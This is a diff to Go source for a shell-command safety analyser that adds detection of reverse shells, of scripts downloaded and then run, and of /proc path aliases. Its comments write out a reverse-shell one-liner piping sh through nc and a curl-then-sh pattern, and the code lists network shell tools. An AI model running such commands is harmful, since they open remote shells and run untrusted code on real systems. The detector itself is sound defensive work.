@@ -25,14 +25,15 @@ const (
 
 // A simple is one simple command as it will run.
 type simple struct {
-	raw   []field // as written, wrappers included
-	argv  []field // after wrappers: argv[0] is the program
-	name  string  // base name of argv[0], "" when it is not known
-	cwd   string  // normalised working directory; may hold dynMark
-	c     ctx
-	argDL bool // an argument holds downloaded content
-	xargs bool // more operands come from stdin
-	via   string
+	raw       []field // as written, wrappers included
+	argv      []field // after wrappers: argv[0] is the program
+	name      string  // base name of argv[0], "" when it is not known
+	cwd       string  // normalised working directory; may hold dynMark
+	c         ctx
+	argDL     bool // an argument holds downloaded content
+	stdinCode bool // it runs its stdin as code (sh -s, source /dev/stdin)
+	xargs     bool // more operands come from stdin
+	via       string
 }
 
 // A pathUse is a path the request names, and how it is used.
@@ -46,14 +47,15 @@ type pathUse struct {
 
 // analysis is everything the walk found out about a request.
 type analysis struct {
-	cmds      []*simple
-	paths     []pathUse
-	writes    bool // a redirection writes somewhere other than a harmless device
-	downloads int
-	forkBomb  string // name of a function that forks itself
-	dynCode   string // eval/sh -c text that cannot be known, as written
-	fatal     string // a reason to refuse judging at all
-	text      string // the whole request, whitespace-normalised
+	cmds         []*simple
+	paths        []pathUse
+	writes       bool // a redirection writes somewhere other than a harmless device
+	downloads    int
+	forkBomb     string // name of a function that forks itself
+	dynCode      string // eval/sh -c text that cannot be known, as written
+	fatal        string // a reason to refuse judging at all
+	reverseShell string
+	text         string // the whole request, whitespace-normalised
 }
 
 // ctx is what a command inherits from where it stands.
@@ -65,6 +67,13 @@ type ctx struct {
 	stdinText  string // stdin is this static text (echo, here-doc)
 	stdinKnown bool
 	stdinPipe  bool // stdin is a pipe from an earlier command
+}
+
+// fileInfo is what the request itself put in a file earlier on.
+type fileInfo struct {
+	downloaded bool
+	text       string
+	known      bool
 }
 
 type scope struct {
@@ -112,18 +121,22 @@ func (s *scope) alias(name string) (string, bool) {
 }
 
 type walker struct {
-	p        *Policy
-	a        *analysis
-	scope    *scope
-	depth    int // eval / sh -c nesting
-	nest     int
-	walks    int
-	funcs    []string // functions being walked, innermost last
-	aliases  []string // aliases being expanded
-	maxCmds  int      // fail closed beyond this many commands
-	seen     map[pathKey]bool
-	parser   *syntax.Parser
-	unknownD bool // cwd became unknown
+	p       *Policy
+	a       *analysis
+	scope   *scope
+	depth   int // eval / sh -c nesting
+	nest    int
+	walks   int
+	funcs   []string // functions being walked, innermost last
+	aliases []string // aliases being expanded
+	maxCmds int      // fail closed beyond this many commands
+	seen    map[pathKey]bool
+	files   map[string]fileInfo // what this request wrote into files
+	// argStdinDL: the command whose words are being resolved reads
+	// downloaded stdin, and so do substitutions in them.
+	argStdinDL bool
+	parser     *syntax.Parser
+	unknownD   bool // cwd became unknown
 }
 
 func (w *walker) fail(format string, args ...any) {
@@ -151,6 +164,21 @@ func (w *walker) script(src, via string, c ctx) {
 	w.depth--
 }
 
+// lenientScript judges text that may be shell code, ignoring it when it
+// does not parse (it is another language's string).
+func (w *walker) lenientScript(src, via string) {
+	if w.a.fatal != "" || w.depth >= maxEvalDepth {
+		return
+	}
+	f, err := w.parser.Parse(strings.NewReader(src), "")
+	if err != nil {
+		return
+	}
+	w.depth++
+	w.stmts(f.Stmts, ctx{})
+	w.depth--
+}
+
 func (w *walker) stmts(list []*syntax.Stmt, c ctx) {
 	for _, s := range list {
 		if w.a.fatal != "" {
@@ -170,11 +198,15 @@ func (w *walker) stmt(s *syntax.Stmt, c ctx) {
 	if s.Background || s.Coprocess || s.Disown {
 		c.background = true
 	}
-	c = w.redirects(s.Redirs, c)
+	c, written := w.redirects(s.Redirs, c)
 	switch x := s.Cmd.(type) {
 	case nil:
 	case *syntax.CallExpr:
+		n := len(w.a.cmds)
 		w.call(x, c)
+		if len(written) > 0 {
+			w.noteWritten(written, w.a.cmds[n:])
+		}
 	case *syntax.BinaryCmd:
 		if x.Op == syntax.Pipe || x.Op == syntax.PipeAll {
 			w.pipeline(x, c)
@@ -357,6 +389,26 @@ func (w *walker) pipeline(x *syntax.BinaryCmd, c ctx) {
 	flat(x.X)
 	flat(x.Y)
 	in := c
+	start := len(w.a.cmds)
+	defer func() {
+		// mkfifo f; cat f | sh -i 2>&1 | nc host 4444 > f: a shell
+		// wired to the network through a pipe.
+		shell, net := false, false
+		for _, s := range w.a.cmds[min(start, len(w.a.cmds)):] {
+			if w.p.names.shells[s.name] {
+				if _, _, script, stdin := shellArgs(s.argv); stdin || script != nil && readsStdinPath(script.s) {
+					shell = true
+				}
+			}
+			switch s.name {
+			case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "pwncat", "openssl":
+				net = true
+			}
+		}
+		if shell && net && w.a.reverseShell == "" {
+			w.a.reverseShell = "a shell reading its commands from the network through a pipeline"
+		}
+	}()
 	for i, st := range stages {
 		sc := c
 		sc.pipeline = true
@@ -388,7 +440,8 @@ func (w *walker) pipeline(x *syntax.BinaryCmd, c ctx) {
 
 // redirects judges the redirections of a statement and returns the context
 // of its command (what its stdin carries).
-func (w *walker) redirects(rs []*syntax.Redirect, c ctx) ctx {
+func (w *walker) redirects(rs []*syntax.Redirect, c ctx) (ctx, []string) {
+	var written []string
 	for _, r := range rs {
 		switch r.Op {
 		case syntax.Hdoc, syntax.DashHdoc:
@@ -433,8 +486,52 @@ func (w *walker) redirects(rs []*syntax.Redirect, c ctx) ctx {
 			continue
 		}
 		w.addPath(f, write, true)
+		if write && f.known() && (r.N == nil || r.N.Value == "1") && r.Op != syntax.RdrInOut {
+			written = append(written, w.resolvePath(f.s))
+		}
 	}
-	return c
+	return c, written
+}
+
+// noteWritten remembers what a command wrote through its stdout, so that
+// running the file later ("curl x > i.sh; sh i.sh") is judged too.
+func (w *walker) noteWritten(paths []string, cmds []*simple) {
+	var info fileInfo
+	switch {
+	case len(cmds) == 1 && isDownloader(cmds[0].name):
+		info.downloaded = true
+	default:
+		text, ok := producedText(cmds)
+		if !ok {
+			return
+		}
+		info.text, info.known = text, true
+	}
+	if w.files == nil {
+		w.files = map[string]fileInfo{}
+	}
+	for _, p := range paths {
+		w.files[p] = info
+	}
+}
+
+// runFile judges a file the request runs as code: deny it when it was
+// downloaded earlier in the request, judge its text when that is known.
+func (w *walker) runFile(s *simple, f field, via string) {
+	if !f.known() || w.files == nil {
+		return
+	}
+	info, ok := w.files[w.resolvePath(f.s)]
+	if !ok {
+		return
+	}
+	if info.downloaded {
+		s.argDL = true
+		return
+	}
+	if info.known {
+		w.script(info.text, via, ctx{})
+	}
 }
 
 func isFD(s string) bool {
@@ -456,9 +553,12 @@ func (w *walker) call(x *syntax.CallExpr, c ctx) {
 		w.assign(as, keep)
 	}
 	var fields []field
+	saved := w.argStdinDL
+	w.argStdinDL = c.stdinDL
 	for _, a := range x.Args {
 		fields = append(fields, w.wordFields(a, true)...)
 	}
+	w.argStdinDL = saved
 	if len(fields) == 0 {
 		return
 	}
@@ -539,6 +639,9 @@ func (w *walker) command(raw []field, c ctx, via string) {
 	if body := w.scope.fn(name); body != nil {
 		w.callFunc(name, body, argv, c)
 	}
+	if strings.ContainsAny(argv[0].s, `/\`) {
+		w.runFile(s, argv[0], argv[0].s) // ./install.sh written earlier
+	}
 	w.special(s)
 	w.argPaths(s)
 }
@@ -601,8 +704,34 @@ func (w *walker) cd(args []field) {
 	}
 }
 
-// resolvePath normalises a word that names a path.
+// resolvePath normalises a word that names a path, seeing through the
+// /proc/self/root and /proc/self/cwd aliases of / and the cwd.
 func (w *walker) resolvePath(s string) string {
+	p := w.resolvePlain(s)
+	if !strings.HasPrefix(p, "/proc/") {
+		return p
+	}
+	parts := strings.SplitN(p, "/", 5) // "", "proc", pid, "root"|"cwd", rest
+	if len(parts) < 4 {
+		return p
+	}
+	rest := ""
+	if len(parts) == 5 {
+		rest = parts[4]
+	}
+	switch parts[3] {
+	case "root":
+		return path.Clean("/" + rest)
+	case "cwd":
+		if parts[2] == "self" || parts[2] == "thread-self" {
+			return w.resolvePlain(rest)
+		}
+		return path.Clean("/" + dynMark + "/" + rest)
+	}
+	return p
+}
+
+func (w *walker) resolvePlain(s string) string {
 	if strings.HasPrefix(s, dynMark) {
 		// An unknown prefix: keep what is known below it.
 		return path.Clean("/" + s)
